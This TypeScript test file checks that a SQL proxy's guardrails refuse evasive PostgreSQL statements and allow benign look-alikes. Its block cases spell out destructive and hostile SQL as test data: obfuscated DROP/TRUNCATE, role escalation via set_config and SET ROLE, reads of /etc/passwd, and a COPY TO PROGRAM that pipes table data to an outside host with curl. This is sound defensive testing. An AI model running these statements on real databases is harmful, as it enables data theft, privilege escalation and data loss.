import { readFileSync } from 'node:fs';
import { beforeAll, describe, expect, it } from 'vitest';
import { API_VERSION } from '../../../../crds/common.ts';
import type { StatementClass } from '../../../../crds/database-access.ts';
import type { GuardrailRuleKind } from '../../../../crds/guardrail.ts';
import type { Identity } from '../../identity/identity.ts';
import { analyzeStatement } from '../../sql/analyze/analyze-statement.ts';
import type { CodeCatalog } from '../../sql/code-reach.ts';
import { loadSqlParser } from '../../sql/normalize.ts';
import { withStoredCode } from '../gates/stored-code.ts';
import { loadPolicyDocuments, type Policy } from '../load-policy.ts';
import { decide } from './decide.ts';
import { DEFAULT_GUARDRAIL } from './default-guardrails.ts';

beforeAll(async () => {
  await loadSqlParser();
});

const ALICE: Identity = { subject: 'local:alice', groups: ['analysts'], method: 'local' };
const CONTEXT = { database: 'app' };

function access(name: string, allow: StatementClass[], guardrails: string[], subjectName = 'local:alice') {
  return {
    apiVersion: API_VERSION,
    kind: 'DatabaseAccess',
    metadata: { name },
    spec: { subjects: [{ kind: 'User', name: subjectName }], allow, guardrails },
  };
}

function policyWith(allow: StatementClass[]): Policy {
  return loadPolicyDocuments([DEFAULT_GUARDRAIL, access('app', allow, ['gatehouse-defaults'])], 'test');
}

/** A database whose only routines are built-ins: `p_clean` is nowhere (created behind Gatehouse's back). */
const CATALOG: CodeCatalog = {
  routine: (name) => (name === 'p_clean' ? undefined : 'builtin'),
  operator: () => [],
  onWrite: () => [],
  onRead: () => [],
};

const READ_WRITE = policyWith(['read', 'write']);
const EVERYTHING = policyWith(['read', 'write', 'ddl', 'admin']);

interface RedTeamCase {
  readonly id: string;
  readonly sql: string;
  readonly expect: 'block' | 'mask' | 'allow';
}

const REDTEAM: readonly RedTeamCase[] = readFileSync(
  new URL('./testdata/redteam-postgres.jsonl', import.meta.url),
  'utf8',
)
  .split('\n')
  .filter((line) => line.trim() !== '')
  .map((line) => JSON.parse(line) as RedTeamCase);

describe('red-team cases with the default guardrails', () => {
  it('has cases of each expectation', () => {
    for (const expectation of ['block', 'mask', 'allow'])
      expect(REDTEAM.filter((c) => c.expect === expectation).length).toBeGreaterThan(5);
  });

  it.each(REDTEAM.filter((c) => c.expect === 'block'))('$id is refused', ({ sql }) => {
    expect(analyzeStatement(sql).parsed).toBe(true);
    expect(decide(analyzeStatement(sql), ALICE, READ_WRITE, CONTEXT).outcome).toBe('refuse');
    // Refused by a guardrail even for a subject that may do everything.
    const decision = decide(analyzeStatement(sql), ALICE, EVERYTHING, CONTEXT);
    expect(decision.outcome).toBe('refuse');
    expect(decision.outcome === 'refuse' && decision.policyKind).toBe('Guardrail');
  });

  it.each(REDTEAM.filter((c) => c.expect !== 'block'))(
    '$id ($expect) is allowed for read and write',
    ({ sql }) => {
      expect(decide(analyzeStatement(sql), ALICE, READ_WRITE, CONTEXT)).toMatchObject({
        outcome: 'allow',
        dryRun: [],
      });
    },
  );
});

interface EvasionCase {
  readonly sql: string;
  /** For block cases: the finding that must be reported (so a syntax error cannot pass for a block). */
  readonly finding?: GuardrailRuleKind;
}

/** Our own cases, by the evasion classes of /work/shared/redteam/README.md that concern guardrails. */
const BLOCK: Record<string, readonly EvasionCase[]> = {
  '1 keywords: case, comments, quoting, Unicode escapes, modifiers': [
    { sql: 'dRoP/**/TaBlE customers', finding: 'drop' },
    { sql: 'DROP TABLE IF EXISTS "customers" CASCADE', finding: 'drop' },
    { sql: 'DROP TABLE U&"!0063ustomers" UESCAPE \'!\'', finding: 'drop' },
    { sql: 'TRUNCATE ONLY public . customers RESTART IDENTITY', finding: 'truncate' },
    { sql: 'DELETE/*x*/FROM"customers"', finding: 'delete-without-where' },
    { sql: 'ALTER TABLE customers DROP COLUMN ssn', finding: 'drop' },
    { sql: 'ALTER TABLE customers RENAME TO customers_old', finding: 'alter' },
  ],
  '2 lexer mismatch: strings, dollar quotes, nested comments': [
    { sql: "SELECT E'\\\\'; DROP TABLE customers; --'", finding: 'drop' },
    { sql: "SELECT 'it''s'; TRUNCATE orders", finding: 'truncate' },
    { sql: 'SELECT $a$ $b$ $a$; DELETE FROM orders', finding: 'delete-without-where' },
    {
      sql: "SELECT 1 /* /* nested */ still a comment */; UPDATE customers SET notes = 'x'",
      finding: 'update-without-where',
    },
    { sql: 'SELECT 1 -- comment\n; DROP TABLE orders', finding: 'drop' },
  ],
  '3 several statements in one message': [
    { sql: "SELECT 1; UPDATE customers SET notes = 'x' WHERE id = 1", finding: 'multi-statement' },
    { sql: 'SELECT * FROM orders;DELETE FROM orders WHERE id = 1', finding: 'multi-statement' },
    { sql: 'SELECT 1;;; SET ROLE postgres', finding: 'identity-change' },
    {
      sql: 'SHOW search_path; INSERT INTO orders (customer_id, amount) VALUES (1, 1); SELECT 1',
      finding: 'multi-statement',
    },
  ],
  '4 DML hidden in other statements': [
    { sql: 'WITH x AS (DELETE FROM customers RETURNING 1) SELECT 1', finding: 'delete-without-where' },
    {
      sql: "WITH a AS (SELECT 1), b AS (UPDATE customers SET notes = 'x' RETURNING id) SELECT * FROM a",
      finding: 'update-without-where',
    },
    { sql: 'EXPLAIN (ANALYZE true) DELETE FROM customers', finding: 'delete-without-where' },
    {
      sql: "EXPLAIN (ANALYZE on, BUFFERS) UPDATE customers SET notes = 'x'",
      finding: 'update-without-where',
    },
    { sql: 'EXPLAIN ANALYZE VERBOSE DELETE FROM orders WHERE 1 = 1', finding: 'delete-without-where' },
    { sql: 'COPY (DELETE FROM customers RETURNING *) TO STDOUT', finding: 'delete-without-where' },
    {
      sql: 'MERGE INTO customers c USING (SELECT 1 AS id) s ON true WHEN MATCHED THEN DELETE',
      finding: 'delete-without-where',
    },
    {
      sql: "MERGE INTO customers c USING customers s ON c.id = s.id WHEN MATCHED THEN UPDATE SET notes = 'x'",
      finding: 'update-without-where',
    },
    { sql: "PREPARE p(int) AS UPDATE customers SET notes = 'x'", finding: 'update-without-where' },
    {
      sql: 'CREATE RULE r AS ON INSERT TO orders DO ALSO DELETE FROM customers',
      finding: 'delete-without-where',
    },
    { sql: "CREATE VIEW v AS SELECT pg_read_file('/etc/passwd') AS f", finding: 'file-access' },
  ],
  '5 tautological or fake WHERE': [
    { sql: 'DELETE FROM customers WHERE NOT false', finding: 'delete-without-where' },
    { sql: 'DELETE FROM customers WHERE id = id OR id IS NULL', finding: 'delete-without-where' },
    { sql: "UPDATE customers SET notes = 'x' WHERE 1 IN (1)", finding: 'update-without-where' },
    { sql: 'DELETE FROM customers WHERE EXISTS (SELECT 1)', finding: 'delete-without-where' },
    { sql: 'DELETE FROM customers WHERE coalesce(true, id = 1)', finding: 'delete-without-where' },
    { sql: 'DELETE FROM customers WHERE customers.id = id', finding: 'delete-without-where' },
    { sql: "DELETE FROM customers WHERE email LIKE '%'", finding: 'delete-without-where' },
    { sql: 'DELETE FROM customers WHERE id IN (SELECT id FROM pg_class)', finding: 'delete-without-where' },
    { sql: "UPDATE customers SET notes = 'x' WHERE (id = id) IS TRUE", finding: 'update-without-where' },
  ],
  '6 dynamic SQL and stored code': [
    { sql: "DO $$BEGIN EXECUTE 'TRUNC' || 'ATE customers'; END$$", finding: 'dynamic-sql' },
    { sql: "DO $x$ BEGIN EXECUTE 'DELETE FROM customers'; END $x$", finding: 'delete-without-where' },
    {
      sql: "SELECT * FROM dblink('dbname=app', 'DELETE FROM customers') AS t(x int)",
      finding: 'dynamic-sql',
    },
    { sql: 'CALL p_clean()', finding: 'dynamic-sql' },
    {
      sql: "CREATE FUNCTION f() RETURNS void LANGUAGE sql AS 'DELETE FROM customers'",
      finding: 'delete-without-where',
    },
    {
      sql: "SELECT query_to_xml(format('SELECT %s FROM customers', 'ssn'), true, false, '')",
      finding: 'dynamic-sql',
    },
    {
      sql: "CREATE FUNCTION t() RETURNS trigger LANGUAGE plpgsql AS $$BEGIN EXECUTE format('TRUNCATE %I', TG_TABLE_NAME); RETURN NULL; END$$",
      finding: 'dynamic-sql',
    },
    { sql: "SELECT ts_stat('SELECT to_tsvector(notes) FROM customers')", finding: 'dynamic-sql' },
    {
      // Each DELETE names a row; the loop names them all.
      sql: 'DO $$BEGIN FOR i IN 1..100000 LOOP DELETE FROM customers WHERE id = i; END LOOP; END$$',
      finding: 'dynamic-sql',
    },
  ],
  '7 protocol paths: extended-protocol texts, prepared statements': [
    { sql: 'DELETE FROM customers WHERE $1::boolean', finding: 'delete-without-where' },
    { sql: 'UPDATE customers SET notes = $1 WHERE id = $2 OR $3', finding: 'update-without-where' },
    { sql: 'EXECUTE wipe', finding: 'unknown-statement' },
    { sql: 'EXPLAIN ANALYZE EXECUTE wipe(1)', finding: 'unknown-statement' },
  ],
  '8 identity and privilege changes': [
    { sql: "SET role = 'postgres'", finding: 'identity-change' },
    { sql: 'SET LOCAL ROLE postgres', finding: 'identity-change' },
    { sql: 'SET "ROLE" TO postgres', finding: 'identity-change' },
    { sql: 'SET SESSION AUTHORIZATION postgres', finding: 'identity-change' },
    { sql: "SELECT pg_catalog.set_config('Role', 'postgres', false)", finding: 'identity-change' },
    { sql: "SELECT set_config(lower('ROLE'), 'postgres', false)", finding: 'identity-change' },
    // pg_dump's shape proves the name only for a harmless setting, and only in exactly that shape.
    {
      sql: "SELECT set_config(name, 'postgres', false) FROM pg_settings WHERE name = 'role'",
      finding: 'identity-change',
    },
    {
      sql: "SELECT set_config(name, 'postgres', false) FROM pg_settings WHERE name = 'lock_timeout' OR true",
      finding: 'identity-change',
    },
    {
      sql: "SELECT set_config(name, 'postgres', false) FROM pg_settings WHERE name <> 'lock_timeout'",
      finding: 'identity-change',
    },
    {
      sql: "WITH pg_settings AS (SELECT 'role' AS name, 1 AS x) SELECT set_config(name, 'postgres', false) FROM pg_settings WHERE name = 'lock_timeout'",
      finding: 'identity-change',
    },
    {
      sql: "SELECT set_config(s.name, 'postgres', false) FROM pg_settings s WHERE s.name = 'lock_timeout'",
      finding: 'identity-change',
    },
    {
      sql: "SELECT set_config(name, 'postgres', false) FROM pg_settings, pg_roles WHERE name = 'lock_timeout'",
      finding: 'identity-change',
    },
    {
      sql: "SELECT set_config(name, 'x', false) FROM pg_settings WHERE name = 'lock_timeout' UNION ALL SELECT set_config(name, 'postgres', false) FROM pg_settings",
      finding: 'identity-change',
    },
    {
      sql: "SELECT set_config(name, current_user, false) FROM pg_settings WHERE name = 'lock_timeout'",
      finding: 'identity-change',
    },
    {
      sql: "SELECT set_config(name, 'x', false) FROM myschema.pg_settings WHERE name = 'lock_timeout'",
      finding: 'identity-change',
    },
    {
      sql: "SELECT set_config(name, 'x', false), set_config(setting, 'postgres', false) FROM pg_settings WHERE name = 'lock_timeout'",
      finding: 'identity-change',
    },
    { sql: 'GRANT postgres TO app', finding: 'grant' },
    { sql: 'ALTER ROLE app SUPERUSER', finding: 'grant' },
    {
      sql: "CREATE FUNCTION f() RETURNS int LANGUAGE sql SECURITY DEFINER AS 'SELECT 1'",
      finding: 'identity-change',
    },
    {
      sql: "CREATE FUNCTION f() RETURNS int LANGUAGE sql SET role = postgres AS 'SELECT 1'",
      finding: 'identity-change',
    },
  ],
  '9 server files and programs': [
    { sql: "COPY customers TO PROGRAM 'curl -d @- http://example.com'", finding: 'copy-program' },
    { sql: "COPY customers FROM '/etc/passwd'", finding: 'file-access' },
    { sql: "SELECT pg_catalog.pg_ls_dir('.')", finding: 'file-access' },
    { sql: "SELECT * FROM pg_read_binary_file('/etc/passwd')", finding: 'file-access' },
    { sql: "SELECT lo_export(1234, '/tmp/x')", finding: 'file-access' },
    { sql: 'SELECT * FROM pg_hba_file_rules', finding: 'file-access' },
    { sql: "LOAD 'auto_explain'", finding: 'file-access' },
    { sql: "CREATE FOREIGN TABLE f (a text) SERVER files OPTIONS (program 'id')", finding: 'copy-program' },
  ],
};

const ALLOW: readonly string[] = [
  "SELECT E'DROP TABLE customers\\'; --'",
  'SELECT $tag$ ; DROP TABLE customers; $tag$',
  // The row check runs before a text's final COMMIT (PostgreSQL's simple protocol).
  "BEGIN; UPDATE customers SET notes = 'x' WHERE id = 1; COMMIT",
  'SELECT 1; SELECT 2',
  'EXPLAIN (ANALYZE false) DELETE FROM customers',
  "EXPLAIN (ANALYZE off) UPDATE customers SET notes = 'x'",
  'COPY (SELECT * FROM customers) TO STDOUT',
  'COPY orders FROM STDIN',
  'DECLARE c CURSOR FOR SELECT * FROM customers',
  "DELETE FROM orders WHERE customer_id IN (SELECT id FROM customers WHERE notes = 'gone')",
  "DELETE FROM orders o WHERE EXISTS (SELECT 1 FROM customers c WHERE c.id = o.customer_id AND c.notes = 'x')",
  "UPDATE customers SET notes = 'x' WHERE lower(email) = 'a@example.com'",
  'DELETE FROM orders WHERE id BETWEEN 1 AND 3',
  'UPDATE orders SET amount = 0 WHERE id = $1',
  'DELETE FROM orders WHERE NOT (id <> 5)',
  'INSERT INTO orders (customer_id, amount) VALUES (1, 5) ON CONFLICT (id) DO UPDATE SET amount = 5',
  'SELECT $1::text',
  "SET statement_timeout = '5s'",
  "SELECT set_config('search_path', 'public', true)",
  // pg_dump 15 (and later) sets this only where the server knows it.
  "SELECT set_config(name, 'view, foreign-table', false) FROM pg_settings WHERE name = 'restrict_nonsystem_relation_kind'",
  "SELECT pg_catalog.set_config(pg_settings.name, '0', false) FROM pg_catalog.pg_settings WHERE 'lock_timeout' = name",
  'SHOW ROLE',
  "SELECT current_setting('role')",
  'CREATE TEMP TABLE scratch AS SELECT id FROM orders',
  "SELECT 'pg_read_file(''/etc/passwd'')'",
  'SELECT "set_config" FROM (SELECT 1 AS set_config) s',
  'PREPARE q(int) AS SELECT * FROM orders WHERE id = $1; EXECUTE q(1)',
  '/* DO $$BEGIN TRUNCATE customers; END$$ */ SELECT 1',
];

describe('our evasion cases with the default guardrails', () => {
  for (const [evasionClass, cases] of Object.entries(BLOCK)) {
    describe(`class ${evasionClass}`, () => {
      it('has at least three cases', () => expect(cases.length).toBeGreaterThanOrEqual(3));
      it.each(cases)('refuses $sql', ({ sql, finding }) => {
        const facts = withStoredCode(analyzeStatement(sql), CATALOG).facts;
        expect(facts.parsed).toBe(true);
        expect(facts.findings.map((f) => f.kind)).toContain(finding);
        expect(decide(facts, ALICE, READ_WRITE, CONTEXT).outcome).toBe('refuse');
        const decision = decide(facts, ALICE, EVERYTHING, CONTEXT);
        expect(decision.outcome === 'refuse' && decision.policyKind).toBe('Guardrail');
        expect(decision.outcome === 'refuse' && decision.sqlstate).toBe('42501');
      });
    });
  }

  it.each(ALLOW)('allows %s for read and write', (sql) => {
    const facts = analyzeStatement(sql);
    expect(facts.parsed).toBe(true);
    expect(decide(facts, ALICE, READ_WRITE, CONTEXT)).toMatchObject({ outcome: 'allow', dryRun: [] });
  });
});

describe('decide', () => {
  const guardrail = (name: string, spec: Record<string, unknown>) => ({
    apiVersion: API_VERSION,
    kind: 'Guardrail',
    metadata: { name },
    spec,
  });

  it('refuses a class the DatabaseAccess does not allow, naming it', () => {
    const decision = decide(analyzeStatement('CREATE TABLE t (a int)'), ALICE, READ_WRITE, CONTEXT);
    expect(decision).toMatchObject({
      outcome: 'refuse',
      action: 'block',
      policyKind: 'DatabaseAccess',
      guardrail: 'app',
      rule: 'allow',
      sqlstate: '42501',
      message:
        'Gatehouse: DatabaseAccess "app" does not allow ddl, which CREATE TABLE t needs (it allows read, write)',
    });
  });

  it('names the guardrail, the rule, the statement and the reason', () => {
    const decision = decide(analyzeStatement('DROP TABLE public.customers'), ALICE, EVERYTHING, CONTEXT);
    expect(decision).toMatchObject({
      outcome: 'refuse',
      guardrail: 'gatehouse-defaults',
      rule: 'drop',
      kind: 'drop',
    });
    expect(decision.outcome === 'refuse' && decision.message).toBe(
      'Gatehouse guardrail "gatehouse-defaults" (rule drop) blocked DROP TABLE public.customers: it drops objects and what they hold. Drop objects through your migration tool, or ask a database administrator.',
    );
    const nested = decide(analyzeStatement('EXPLAIN ANALYZE DELETE FROM orders'), ALICE, EVERYTHING, CONTEXT);
    expect(nested.outcome === 'refuse' && nested.message).toContain(
      'blocked DELETE FROM orders (inside EXPLAIN ANALYZE): it has no WHERE clause.',
    );
  });

  it('refuses when no DatabaseAccess grants the subject, or only for another database', () => {
    const bob: Identity = { subject: 'local:bob', groups: [], method: 'local' };
    expect(decide(analyzeStatement('SELECT 1'), bob, READ_WRITE, CONTEXT)).toMatchObject({
      outcome: 'refuse',
      rule: 'subjects',
      policyKind: 'DatabaseAccess',
    });
    const elsewhere = loadPolicyDocuments(
      [
        {
          ...access('other-db', ['read'], []),
          spec: { ...access('x', ['read'], []).spec, upstream: { host: 'db', database: 'other' } },
        },
      ],
      'test',
    );
    expect(decide(analyzeStatement('SELECT 1'), ALICE, elsewhere, CONTEXT).outcome).toBe('refuse');
    expect(decide(analyzeStatement('SELECT 1'), ALICE, elsewhere, { database: 'other' }).outcome).toBe(
      'allow',
    );
  });

  it('matches rules by tables, subjects and databases', () => {
    const policy = loadPolicyDocuments(
      [
        guardrail('scoped', {
          rules: [
            { name: 'keep-customers', kinds: ['truncate', 'dynamic-sql'], tables: ['public.cust*'] },
            {
              name: 'interns',
              kinds: ['delete-without-where'],
              subjects: [{ kind: 'Group', name: 'interns' }],
            },
            { name: 'prod-only', kinds: ['update-without-where'], databases: ['prod-*'] },
          ],
        }),
        access('app', ['read', 'write'], ['scoped']),
      ],
      'test',
    );
    const outcome = (sql: string, identity = ALICE, database = 'app') =>
      decide(analyzeStatement(sql), identity, policy, { database }).outcome;
    expect(outcome('TRUNCATE customers')).toBe('refuse');
    expect(outcome('TRUNCATE public.customers')).toBe('refuse');
    expect(outcome('TRUNCATE other.customers')).toBe('allow');
    expect(outcome('TRUNCATE orders')).toBe('allow');
    // Dynamic SQL may touch any table.
    expect(outcome("DO $$BEGIN EXECUTE 'TRUNC' || 'ATE orders'; END$$")).toBe('refuse');
    expect(outcome('DELETE FROM orders')).toBe('allow');
    expect(outcome('DELETE FROM orders', { ...ALICE, groups: ['interns'] })).toBe('refuse');
    expect(outcome('UPDATE orders SET amount = 0')).toBe('allow');
    expect(outcome('UPDATE orders SET amount = 0', ALICE, 'prod-eu')).toBe('refuse');
  });

  it('warns, asks for approval, or records in dry-run mode', () => {
    const policy = loadPolicyDocuments(
      [
        guardrail('careful', {
          rules: [
            { name: 'note-deletes', kinds: ['delete-without-where'], action: 'warn', message: 'Sure?' },
            { name: 'approve-truncates', kinds: ['truncate'], action: 'requireApproval' },
          ],
        }),
        guardrail('trial', {
          mode: 'dryRun',
          rules: [{ name: 'would-block', kinds: ['delete-without-where'] }],
        }),
        access('app', ['read', 'write'], ['careful', 'trial']),
      ],
      'test',
    );
    const warned = decide(analyzeStatement('DELETE FROM orders'), ALICE, policy, CONTEXT);
    expect(warned).toMatchObject({
      outcome: 'allow-with-warnings',
      warnings: [{ guardrail: 'careful', rule: 'note-deletes', action: 'warn' }],
      dryRun: [{ guardrail: 'trial', rule: 'would-block', action: 'block' }],
    });
    expect(warned.outcome === 'allow-with-warnings' && warned.warnings[0]?.message).toBe(
      'Gatehouse guardrail "careful" (rule note-deletes) warns about DELETE FROM orders: it has no WHERE clause. Sure?',
    );
    expect(decide(analyzeStatement('TRUNCATE orders'), ALICE, policy, CONTEXT)).toMatchObject({
      outcome: 'refuse',
      action: 'requireApproval',
      rule: 'approve-truncates',
    });
    expect(decide(analyzeStatement('SELECT 1'), ALICE, policy, CONTEXT)).toEqual({
      outcome: 'allow',
      dryRun: [],
      rowLimits: [],
    });
  });

  it('lets a statement run when any grant allows it, and prefers approval over a block when none does', () => {
    const policy = loadPolicyDocuments(
      [
        DEFAULT_GUARDRAIL,
        guardrail('approve-drops', {
          rules: [{ name: 'drops', kinds: ['drop'], action: 'requireApproval' }],
        }),
        access('strict', ['read', 'write', 'ddl'], ['gatehouse-defaults']),
        access('loose', ['read', 'write', 'ddl'], ['approve-drops']),
        access('analysts', ['read'], []),
      ],
      'test',
    );
    expect(decide(analyzeStatement('DELETE FROM orders'), ALICE, policy, CONTEXT).outcome).toBe('allow');
    expect(decide(analyzeStatement('DROP TABLE orders'), ALICE, policy, CONTEXT)).toMatchObject({
      outcome: 'refuse',
      action: 'requireApproval',
      guardrail: 'approve-drops',
    });
  });

  it('names every requireApproval rule a held statement matched, with who may release it', () => {
    const approvers = [{ kind: 'Group' as const, name: 'approvers' }];
    const policy = loadPolicyDocuments(
      [
        guardrail('approve-drops', {
          rules: [
            { name: 'drops', kinds: ['drop'], action: 'requireApproval', approval: { approvers } },
            { name: 'public-drops', kinds: ['drop'], tables: ['public.*'], action: 'requireApproval' },
            { name: 'also-drops', kinds: ['drop'], action: 'requireApproval', approval: { approvers } },
          ],
        }),
        guardrail('no-truncate', { rules: [{ name: 'truncates', kinds: ['truncate'] }] }),
        access('ops', ['read', 'write', 'ddl'], ['approve-drops', 'no-truncate']),
      ],
      'test',
    );
    const held = decide(analyzeStatement('DROP TABLE public.orders, public.items'), ALICE, policy, CONTEXT);
    expect(held).toMatchObject({ outcome: 'refuse', action: 'requireApproval', rule: 'drops' });
    expect(held.outcome === 'refuse' && held.approvals).toEqual([
      {
        guardrail: 'approve-drops',
        rule: 'drops',
        settings: { approvers, waitSeconds: 120, ttlSeconds: 900, allowSelfApproval: false },
      },
      // A rule without approval settings: nobody can release the statement past it.
      { guardrail: 'approve-drops', rule: 'public-drops' },
      {
        guardrail: 'approve-drops',
        rule: 'also-drops',
        settings: { approvers, waitSeconds: 120, ttlSeconds: 900, allowSelfApproval: false },
      },
    ]);
    // A block among the hits: no approval can release it.
    const blocked = decide(analyzeStatement('DROP TABLE a; TRUNCATE b'), ALICE, policy, CONTEXT);
    expect(blocked).toMatchObject({ outcome: 'refuse', action: 'block', rule: 'truncates' });
    expect(blocked.outcome === 'refuse' && blocked.approvals).toBeUndefined();
  });

  it('refuses EXECUTE of a prepared statement the session has not resolved', () => {
    expect(decide(analyzeStatement('EXECUTE anything'), ALICE, EVERYTHING, CONTEXT)).toMatchObject({
      outcome: 'refuse',
      rule: 'unknown-statement',
    });
  });

  it('matches service accounts by token subject, with the namespace of the document by default', () => {
    const policy = loadPolicyDocuments(
      [
        {
          apiVersion: API_VERSION,
          kind: 'DatabaseAccess',
          metadata: { name: 'billing', namespace: 'shop' },
          spec: { subjects: [{ kind: 'ServiceAccount', name: 'billing' }], allow: ['read'] },
        },
      ],
      'test',
    );
    const sa = (subject: string): Identity => ({ subject, groups: [], method: 'token-file' });
    const select = analyzeStatement('SELECT 1');
    expect(decide(select, sa('system:serviceaccount:shop:billing'), policy, CONTEXT).outcome).toBe('allow');
    expect(decide(select, sa('system:serviceaccount:other:billing'), policy, CONTEXT).outcome).toBe('refuse');
  });
});
